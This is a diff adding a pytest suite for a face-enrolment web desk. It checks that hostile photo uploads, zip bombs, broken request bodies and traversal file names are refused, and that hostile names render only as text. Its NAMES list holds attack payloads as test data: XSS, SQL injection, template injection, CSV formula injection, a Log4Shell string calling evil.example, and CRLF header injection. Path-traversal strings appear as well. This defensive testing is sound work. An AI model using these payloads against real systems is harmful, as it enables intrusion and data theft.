@@ -1,0 +1,363 @@
+"""Hostile uploads and hostile names do nothing; good ones are judged and enrolled."""
+
+from __future__ import annotations
+
+import html
+import io
+import re
+import threading
+import zipfile
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from tests.device.hostile import HOSTILE, Hostile, flat_png
+from tests.web.desk.office import PNG, Office, Visitor, demo_picture, open_office
+
+from glancein.errors import GlanceinError, InputError, PhotoError
+from glancein.web.access import Role
+from glancein.web.uploads import Bulk, read_bulk, tidy_name
+
+# A browser sends files: no folder, pipe or device, no link that leads nowhere, nothing of gigabytes.
+NEVER_SENT = {
+    "sparse.jpg",
+    "folder.jpg",
+    "pipe.jpg",
+    "zero-device.jpg",
+    "memory.jpg",
+    "loop.jpg",
+    "missing-target.jpg",
+    "missing.jpg",
+}
+SENT = [case for case in HOSTILE if case.name not in NEVER_SENT]
+CONSENT = {"consent": "true"}
+NAMES = (
+    "<script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "' OR 1=1 --",
+    "Robert'); DROP TABLE people;--",
+    "{{ 7 * 7 }}",
+    "{% include '/etc/passwd' %}",
+    "../../etc/passwd",
+    "=cmd|' /C calc'!A0",
+    "+1-555",
+    "@SUM(1)",
+    "javascript:alert(1)",
+    "${jndi:ldap://evil.example}",
+    "%00%0d%0aSet-Cookie: a=b",
+    "</script><svg onload=alert(1)>",
+    "\N{RIGHT-TO-LEFT OVERRIDE}gpj.exe",
+)
+
+
+@pytest.fixture(scope="module")
+def office_of_files(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Office]:
+    """One desk for all uploads: the networks are opened once."""
+    opened = open_office(tmp_path_factory.mktemp("desk"))
+    yield opened
+    opened.desk.close()
+
+
+@pytest.fixture
+def hr(office_of_files: Office) -> Visitor:
+    """HR's browser."""
+    return office_of_files.someone(Role.HR)
+
+
+def written(case: Hostile, folder: Path) -> bytes:
+    """The bytes that a browser would send of a hostile file."""
+    case.make(folder)
+    return (folder / case.name).read_bytes()
+
+
+def state(office: Office) -> tuple[int, int]:
+    """What an upload might have changed: how many people, and the counter of changes."""
+    return len(office.desk.people.people()), office.desk.people.version()
+
+
+@pytest.mark.parametrize("case", SENT, ids=lambda case: repr(case.name))
+def test_hostile_photo_is_refused_in_a_sentence(
+    case: Hostile, hr: Visitor, office_of_files: Office, tmp_path: Path
+) -> None:
+    """Whatever comes as a photo: 422 with one line, nobody enrolled, the desk goes on."""
+    data = written(case, tmp_path)
+    before = state(office_of_files)
+    files = {"photo": (case.name, data, "image/jpeg")}
+    judged = hr.call("POST", "/api/v1/photos/check", {}, files=files)
+    enrolled = hr.call("POST", "/api/v1/people", {"id": "E1", "name": "X", **CONSENT}, files=files)
+
+    assert (judged.status_code, enrolled.status_code) == (422, 422)
+    assert judged.json()["reason"] == case.reason
+    assert judged.json()["error"].isprintable()
+    assert state(office_of_files) == before
+
+
+def test_enough_hostile_files_are_tried() -> None:
+    """At least sixty kinds come as uploads: what is sent above, and the archives below."""
+    assert len(SENT) + len(ARCHIVES) >= 60
+
+
+def test_good_photo_is_judged_and_enrolled(hr: Visitor) -> None:
+    """Crop, ease, every check; then the same face under another id is refused unless a reason is given."""
+    files = {"photo": ("badge.jpg", demo_picture("collins.jpg"), "image/jpeg")}
+    judged = hr.call("POST", "/api/v1/photos/check", {}, files=files).json()
+    done = hr.call("POST", "/api/v1/people", {"id": "E5", "name": "Eileen", **CONSENT}, files=files)
+    again = hr.call("POST", "/api/v1/photos/check", {}, files=files).json()
+    twin = hr.call("POST", "/api/v1/people", {"id": "E6", "name": "Twin", **CONSENT}, files=files)
+    allowed = {"id": "E6", "name": "Twin", "allow_duplicate": "twins", **CONSENT}
+    second = hr.call("POST", "/api/v1/people", allowed, files=files)
+
+    assert judged["usable"]
+    assert judged["ease"] > 0.5
+    assert {check["state"] for check in judged["checks"]} <= {"ok", "fair"}
+    assert judged["crop"].startswith("data:image/png;base64,")
+    assert done.status_code == 201
+    assert again["refusal"]["reason"] == "duplicate_person"
+    assert again["like"]["too_like"]
+    assert "E5" in again["like"]["sentence"]
+    assert (twin.status_code, twin.json()["reason"]) == (422, "duplicate_person")
+    assert second.status_code == 201
+    assert hr.client.get("/api/v1/people/E5/crop.png").content.startswith(b"\x89PNG")
+
+
+def test_enrolment_without_consent_is_refused(hr: Visitor, office_of_files: Office) -> None:
+    """No tick, no template."""
+    before = state(office_of_files)
+    files = {"photo": ("badge.jpg", demo_picture("biden.jpg"), "image/jpeg")}
+    answer = hr.call("POST", "/api/v1/people", {"id": "E7", "name": "Joe"}, files=files)
+    changed = hr.call(
+        "POST",
+        "/api/v1/people",
+        {"id": "E7", "name": "Joe", "consent_version": "old", **CONSENT},
+        files=files,
+    )
+
+    assert (answer.status_code, changed.status_code) == (422, 422)
+    assert "text has changed" in changed.json()["error"]
+    assert state(office_of_files) == before
+
+
+def test_erased_person_leaves_no_byte(hr: Visitor, office_of_files: Office) -> None:
+    """Crop, consent and name are in no file of the data folder afterwards; the receipt counts them."""
+    name = "Zebulon Quixote-Vandermeer"
+    files = {"photo": ("badge.jpg", demo_picture("biden.jpg"), "image/jpeg")}
+    hr.call(
+        "POST",
+        "/api/v1/people",
+        {"id": "E8", "name": name, "allow_duplicate": "test", **CONSENT},
+        files=files,
+    )
+    crop = hr.client.get("/api/v1/people/E8/crop.png").content
+    receipt = hr.call("DELETE", "/api/v1/people/E8").json()
+    left = b"".join(path.read_bytes() for path in office_of_files.desk.home.folder.glob("*.sqlite*"))
+
+    assert receipt["erased"]["templates_and_crops"] == 1
+    assert receipt["erased"]["consents"] == 1
+    assert name.encode() not in left
+    assert crop[100:400] not in left
+    assert hr.client.get("/api/v1/people/E8").status_code == 422
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_hostile_name_is_only_a_name(name: str, hr: Visitor, office_of_files: Office) -> None:
+    """It is shown as text on every page, stored as it is, and changes nothing else."""
+    office = office_of_files
+    office.person("E99", name)
+    pages = [
+        hr.client.get(path).text for path in ("/", "/people", "/person?id=E99", "/month", "/month?id=E99")
+    ]
+    shown = hr.client.get("/api/v1/people/E99").json()["name"]
+    tables = len(office.desk.file.rows("SELECT 1 FROM sqlite_master"))
+
+    assert shown == name
+    for page in pages:
+        assert html.escape(name) in html.unescape(page).replace(name, html.escape(name))
+        assert not re.search(r"<(script>alert|img src=x|svg onload)", page)
+        assert "49" not in re.findall(r"<h1>([^<]*)", page)
+    assert tables > 5
+
+
+@pytest.mark.parametrize("person_id", ["../../x", "a/b", "x\x00", " x", "", "#1", "+1", "x" * 65, "\u2028"])
+def test_hostile_id_is_refused(person_id: str, hr: Visitor, office_of_files: Office) -> None:
+    """An id that would break a path, a topic or a line is never enrolled."""
+    before = state(office_of_files)
+    files = {"photo": ("a.jpg", demo_picture("obama.jpg"), "image/jpeg")}
+    answer = hr.call("POST", "/api/v1/people", {"id": person_id, "name": "X", **CONSENT}, files=files)
+
+    assert answer.status_code == 422
+    assert state(office_of_files) == before
+
+
+@pytest.mark.parametrize(
+    "name", ["../../../etc/cron.d/x", "C:\\windows\\x.jpg", "a\r\nSet-Cookie: b=c", "\u202egpj"]
+)
+def test_hostile_file_name_is_never_opened(name: str, hr: Visitor) -> None:
+    """A file's name is at most shown, without folders or control characters."""
+    answer = hr.call("POST", "/api/v1/photos/check", {}, files={"photo": (name, b"no picture", "image/png")})
+
+    assert answer.status_code == 422
+    assert "set-cookie" not in answer.headers
+    assert "/" not in tidy_name(name)
+    assert tidy_name(name).isprintable()
+
+
+def zipped(*members: tuple[str, bytes], compress: int = zipfile.ZIP_DEFLATED) -> bytes:
+    """An archive of these."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", compress) as made:
+        for name, data in members:
+            made.writestr(name, data)
+    return out.getvalue()
+
+
+HEAD = b"id,name,photo\n"
+SOUND = zipped(("a.csv", HEAD + b"E1,A,a.jpg\n" * 50), ("a.jpg", PNG))
+ARCHIVES: dict[str, bytes] = {
+    "no csv": zipped(("a.jpg", b"x")),
+    "two csv": zipped(("a.csv", HEAD), ("b.csv", HEAD)),
+    "cut": zipped(("a.csv", HEAD + b"E1,A,a.jpg\n"))[:-30],
+    "only magic": b"PK\3\4" + b"\0" * 40,
+    "empty list": zipped(("a.csv", HEAD)),
+    "no header": zipped(("a.csv", b"E1,A,a.jpg\n")),
+    "csv is a bomb": zipped(("a.csv", HEAD + b"\n" * 40_000_000)),
+    "csv is binary": zipped(("a.csv", bytes(range(256)) * 40)),
+    "too many": zipped(*((f"{n}.jpg", b"") for n in range(10_001)), ("a.csv", HEAD)),
+    "damaged table": SOUND[:60] + bytes(8) + SOUND[68:],
+}
+
+
+@pytest.mark.parametrize("case", ARCHIVES)
+def test_hostile_archive_is_refused(case: str) -> None:
+    """No table, damage, bombs: one sentence, before a photo is looked at."""
+    with pytest.raises(GlanceinError):
+        read(ARCHIVES[case])
+
+
+@pytest.mark.parametrize(
+    "path", ["../a.jpg", "/etc/passwd", "..\\..\\a.jpg", "C:\\a.jpg", "none.jpg", "x/../../a.jpg"]
+)
+def test_list_cannot_name_a_file_outside_the_archive(path: str) -> None:
+    """A row whose photo was not uploaded is a bad row; nothing on the disk is ever read for it."""
+    bulk = read(zipped(("a.csv", HEAD + f"E1,A,{path}\n".encode()), ("a.jpg", PNG)))
+
+    assert [type(row).__name__ for row in bulk.rows] == ["BadRow"]
+
+
+def test_member_that_unpacks_to_much_more_is_refused() -> None:
+    """A photo hardly shrinks: what grows 200-fold is a bomb, whatever it is called."""
+    bulk = read(zipped(("a.csv", HEAD + b"E1,A,a.png\n"), ("a.png", b"\0" * 60_000_000)))
+
+    with pytest.raises(PhotoError, match="unpacks"):
+        bulk.photos["a.png"]()
+
+
+def test_bomb_within_an_archive_stops_at_its_header(office_of_files: Office) -> None:
+    """A picture of 400 megapixels inside a zip is refused like any other, and the rest goes on."""
+    hr = office_of_files.someone(Role.HR)
+    table = HEAD + b"E70,Bomb,bomb.png\nE71,=1+1,x.png\nE72,Good,sub/good.jpg\n"
+    photos = (
+        ("bomb.png", flat_png(20_000, 20_000)),
+        ("x.png", PNG),
+        ("sub/good.jpg", demo_picture("obama3.jpg")),
+    )
+    answer = hr.call(
+        "POST",
+        "/api/v1/people/bulk",
+        CONSENT,
+        files={"list": ("staff.zip", zipped(("l.csv", table), *photos))},
+    )
+    job = finished(hr, answer.json()["job"])
+
+    assert answer.status_code == 202
+    assert {row["id"]: row["status"] for row in job["rows"]} == {
+        "E70": "refused",
+        "E71": "refused",
+        "E72": "enrolled",
+    }
+    assert job["error"] == ""
+
+
+def test_csv_with_photos_beside_it_is_enrolled(office_of_files: Office) -> None:
+    """Without a zip: the table and the pictures chosen together."""
+    hr = office_of_files.someone(Role.HR)
+    files = [
+        ("list", ("staff.csv", HEAD + b"E80,Obama,two.jpg\n", "text/csv")),
+        ("photos", ("two.jpg", demo_picture("obama2.jpg"), "image/jpeg")),
+    ]
+    answer = hr.call("POST", "/api/v1/people/bulk", CONSENT, files=files)
+    job = finished(hr, answer.json()["job"])
+
+    assert job["total"] == 1
+    assert job["rows"][0]["reason"] in {"", "duplicate_person"}
+
+
+def test_upload_that_is_said_too_large_is_refused_at_once(hr: Visitor) -> None:
+    """By the header, before a byte is kept."""
+    answer = hr.client.post(
+        "/api/v1/photos/check",
+        content=b"x",
+        headers={
+            "x-csrf-token": hr.csrf,
+            "content-type": "multipart/form-data; boundary=b",
+            "content-length": "9000000000",
+        },
+    )
+
+    assert answer.status_code == 422
+
+
+@pytest.mark.parametrize(
+    ("kind", "body"),
+    [
+        ("application/json", b"{"),
+        ("application/json", b"[1]"),
+        ("application/json", b"[" * 60_000),
+        ("application/json", b'{"name": {"a": 1}}'),
+        ("application/json", b'{"name": "\\u0000"}'),
+        ("application/json", b'{"name": "\\ud800"}'),
+        ("application/json", b"\xff\xfe"),
+        ("application/json", b'{"a": "' + b"x" * 70_000 + b'"}'),
+        ("text/plain", b"name=x"),
+    ],
+    ids=lambda value: repr(value[:16]),
+)
+def test_broken_body_is_refused(kind: str, body: bytes, office_of_files: Office) -> None:
+    """Not JSON, too deep, too long, no text: one sentence."""
+    admin = office_of_files.someone(Role.ADMIN)
+    answer = admin.client.post(
+        "/api/v1/accounts", content=body, headers={"x-csrf-token": admin.csrf, "content-type": kind}
+    )
+
+    assert answer.status_code == 422
+    assert "error" in answer.json()
+
+
+@pytest.mark.parametrize(
+    "kind", ["multipart/form-data", "multipart/form-data; boundary=", "application/json", ""]
+)
+def test_broken_form_is_refused(kind: str, hr: Visitor) -> None:
+    """A body that is no form, or a form without an end."""
+    headers = {"x-csrf-token": hr.csrf, "content-type": kind}
+    answer = hr.client.post("/api/v1/photos/check", content=b"--b\r\nnothing", headers=headers)
+
+    assert answer.status_code == 422
+
+
+def read(data: bytes) -> Bulk:
+    """The archive as the desk reads it."""
+    return read_bulk(io.BytesIO(data), "staff.zip", {}, close=lambda: None)
+
+
+def finished(hr: Visitor, number: str) -> dict[str, list[dict[str, str]]]:
+    """The job, once it is done."""
+    pause = threading.Event()
+    while not (job := hr.client.get(f"/api/v1/jobs/{number}").json())["is_done"]:
+        pause.wait(0.05)
+    found: dict[str, list[dict[str, str]]] = job
+    return found
+
+
+def test_csv_alone_must_be_a_table() -> None:
+    """Something else than a table is refused by its header line."""
+    with pytest.raises(InputError):
+        read_bulk(io.BytesIO(b"hello\n"), "x.csv", {}, close=lambda: None)
